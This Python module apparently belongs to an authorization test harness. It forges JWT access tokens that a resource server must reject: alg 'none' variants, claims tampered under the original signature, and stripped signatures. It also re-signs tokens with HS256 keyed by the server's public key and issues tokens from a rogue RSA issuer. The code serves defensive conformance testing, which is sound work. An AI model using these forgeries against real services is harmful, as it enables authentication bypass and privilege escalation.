"""Forged access tokens, built from a real one (JWT Best Current Practices, RFC 8725 §2 and §3).

Pure functions: each returns labelled tokens a resource server must refuse. A real access token
is re-encoded with `alg` none, has its claims edited under the old signature or its signature
stripped, is re-signed with HS256 keyed by the authorization server's public key (PEM, DER and JWK
forms), or is re-issued by a harness-run issuer with its own RSA key.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import time
from collections.abc import Mapping
from dataclasses import dataclass, field

from joserfc import jws
from joserfc.errors import JoseError
from joserfc.jwk import ECKey, RSAKey
from joserfc.util import json_b64encode, urlsafe_b64decode, urlsafe_b64encode

HARNESS_KID = "mcp-auth-harness-forger"
FOREIGN_LIFETIME_S = 600


@dataclass(frozen=True, slots=True, kw_only=True)
class CompactJws:
    """A compact JWS split into its parts; header and claims decoded (not verified)."""

    header: Mapping[str, object]
    claims: Mapping[str, object]
    encoded_header: str
    encoded_payload: str
    signature: str = field(repr=False)

    @property
    def alg(self) -> str | None:
        alg = self.header.get("alg")
        return alg if isinstance(alg, str) else None

    @property
    def kid(self) -> str | None:
        kid = self.header.get("kid")
        return kid if isinstance(kid, str) else None


@dataclass(frozen=True, slots=True, kw_only=True)
class Forgery:
    label: str
    token: str = field(repr=False)


def parse_jws(token: str) -> CompactJws | None:
    """The token as a compact JWS with JSON header and claims, else None (opaque, JWE, …)."""
    parts = token.split(".")
    if len(parts) != 3 or not all(parts[:2]):
        return None
    try:
        header = json.loads(urlsafe_b64decode(parts[0].encode()))
        claims = json.loads(urlsafe_b64decode(parts[1].encode()))
    except (ValueError, UnicodeDecodeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return CompactJws(
        header=header,
        claims=claims,
        encoded_header=parts[0],
        encoded_payload=parts[1],
        signature=parts[2],
    )


def token_kind(token: str) -> str:
    """`jwt`, `jwe` or `opaque`, as far as the shape tells."""
    if parse_jws(token) is not None:
        return "jwt"
    return "jwe" if token.count(".") == 4 else "opaque"


def _segment(value: Mapping[str, object]) -> str:
    return json_b64encode(dict(value)).decode()


def _b64(data: bytes) -> str:
    return urlsafe_b64encode(data).decode()


def alg_none(real: CompactJws) -> tuple[Forgery, ...]:
    """The real claims under `alg` none in several spellings, without and with a signature."""
    forged = [
        Forgery(
            label=f'alg "{alg}", empty signature',
            token=f"{_segment({**real.header, 'alg': alg})}.{real.encoded_payload}.",
        )
        for alg in ("none", "None", "NONE", "nOnE")
    ]
    forged.append(
        Forgery(
            label='alg "none", original signature kept',
            token=f"{_segment({**real.header, 'alg': 'none'})}.{real.encoded_payload}."
            f"{real.signature}",
        )
    )
    return tuple(forged)


def tampered(real: CompactJws) -> tuple[Forgery, ...]:
    """Claims edited under the old signature, and the signature stripped or corrupted."""
    claims = dict(real.claims)
    scope = claims.get("scope")
    sub = claims.get("sub")
    exp = claims.get("exp")
    edits: list[tuple[str, dict[str, object]]] = [
        ("scope widened", {**claims, "scope": f"{scope} admin" if isinstance(scope, str) else "*"}),
        ("sub changed", {**claims, "sub": f"{sub}-other" if isinstance(sub, str) else "admin"}),
        (
            "exp extended by a day",
            {**claims, "exp": (exp if isinstance(exp, int) else int(time.time())) + 86400},
        ),
    ]
    forged = [
        Forgery(
            label=f"{what}, original signature",
            token=f"{real.encoded_header}.{_segment(edited)}.{real.signature}",
        )
        for what, edited in edits
    ]
    forged.append(
        Forgery(label="signature stripped", token=f"{real.encoded_header}.{real.encoded_payload}.")
    )
    if real.signature:
        flipped = _flip_signature(real.signature)
        forged.append(
            Forgery(
                label="signature corrupted",
                token=f"{real.encoded_header}.{real.encoded_payload}.{flipped}",
            )
        )
    return tuple(forged)


def _flip_signature(signature: str) -> str:
    raw = bytearray(urlsafe_b64decode(signature.encode()))
    if raw:
        raw[len(raw) // 2] ^= 0x01
    return _b64(bytes(raw))


def public_key_forms(jwk: Mapping[str, object]) -> tuple[tuple[str, bytes], ...]:
    """The AS public key as an attacker would feed it to HMAC: PEM, DER and JWK JSON."""
    key = _import_public(jwk)
    pem = key.as_pem(private=False)
    public_jwk = {k: v for k, v in key.as_dict(private=False).items() if k != "d"}
    forms = [
        ("PEM", pem),
        ("PEM without trailing newline", pem.rstrip(b"\n")),
        ("DER", key.as_der(private=False)),
        ("JWK JSON", json.dumps(public_jwk).encode()),
        ("JWK JSON (compact)", json.dumps(public_jwk, separators=(",", ":")).encode()),
    ]
    return tuple(forms)


def _import_public(jwk: Mapping[str, object]) -> RSAKey | ECKey:
    kty = jwk.get("kty")
    fields: dict[str, str | list[str]] = {k: v for k, v in jwk.items() if isinstance(v, str)}
    try:
        if kty == "RSA":
            return RSAKey.import_key(fields)
        if kty == "EC":
            return ECKey.import_key(fields)
    except (JoseError, ValueError, TypeError) as exc:
        raise ValueError(f"the published {kty} key could not be read: {exc}") from exc
    raise ValueError(f"the published key has kty {kty!r}, not RSA or EC")


def alg_confusion(real: CompactJws, jwk: Mapping[str, object]) -> tuple[Forgery, ...]:
    """The real claims re-signed with HS256, the AS public key (each form) as the secret.

    The HMAC is computed directly: joserfc (rightly) refuses a public key as an oct key, which is
    exactly the safeguard a vulnerable verifier lacks.
    """
    encoded_header = _segment({**real.header, "alg": "HS256"})
    signing_input = f"{encoded_header}.{real.encoded_payload}".encode()
    forged = []
    for form, secret in public_key_forms(jwk):
        mac = hmac.new(secret, signing_input, hashlib.sha256).digest()
        forged.append(
            Forgery(
                label=f"HS256 keyed with the AS public key ({form})",
                token=f"{signing_input.decode()}.{_b64(mac)}",
            )
        )
    return tuple(forged)


class HarnessIssuer:
    """An issuer the harness runs: its own RSA key, never listed in the target's PRM."""

    def __init__(self, issuer: str) -> None:
        self.issuer = issuer
        self._key = RSAKey.generate_key(2048, parameters={"kid": HARNESS_KID, "use": "sig"})

    def jwks(self) -> dict[str, object]:
        return {"keys": [self._key.as_dict(private=False)]}

    def metadata(self, jwks_uri: str) -> dict[str, object]:
        return {"issuer": self.issuer, "jwks_uri": jwks_uri}

    def sign(self, claims: Mapping[str, object], *, kid: str, typ: str | None) -> str:
        header: dict[str, object] = {"alg": "RS256", "kid": kid}
        if typ:
            header["typ"] = typ
        payload = json.dumps(dict(claims), separators=(",", ":")).encode()
        return jws.serialize_compact(header, payload, self._key, algorithms=["RS256"])


def foreign_claims(
    real: CompactJws | None, *, resource: str, scope: str | None, as_issuer: str | None
) -> dict[str, object]:
    """Claims for a foreign token: the real token's, else what a token for `resource` holds."""
    now = int(time.time())
    if real is not None:
        claims = dict(real.claims)
    else:
        claims = {"sub": "mcp-auth-harness-user", "aud": resource, "client_id": "mcp-auth-harness"}
        if scope:
            claims["scope"] = scope
        if as_issuer:
            claims["iss"] = as_issuer
    claims.update({"iat": now, "exp": now + FOREIGN_LIFETIME_S, "jti": f"harness-{now}"})
    return claims


def foreign_issuer(
    issuer: HarnessIssuer,
    claims: Mapping[str, object],
    *,
    as_kid: str | None,
    typ: str | None,
) -> tuple[Forgery, ...]:
    """Validly signed tokens from the harness issuer: with its own `iss`, and posing as the AS."""
    own = {**claims, "iss": issuer.issuer}
    forged = [
        Forgery(
            label="iss = the harness issuer, signed with its own key",
            token=issuer.sign(own, kid=HARNESS_KID, typ=typ),
        )
    ]
    if "iss" in claims:
        forged.append(
            Forgery(
                label="iss = the real issuer, signed with a harness key (own kid)",
                token=issuer.sign(claims, kid=HARNESS_KID, typ=typ),
            )
        )
        if as_kid:
            forged.append(
                Forgery(
                    label="iss = the real issuer, signed with a harness key under the AS kid",
                    token=issuer.sign(claims, kid=as_kid, typ=typ),
                )
            )
    return tuple(forged)
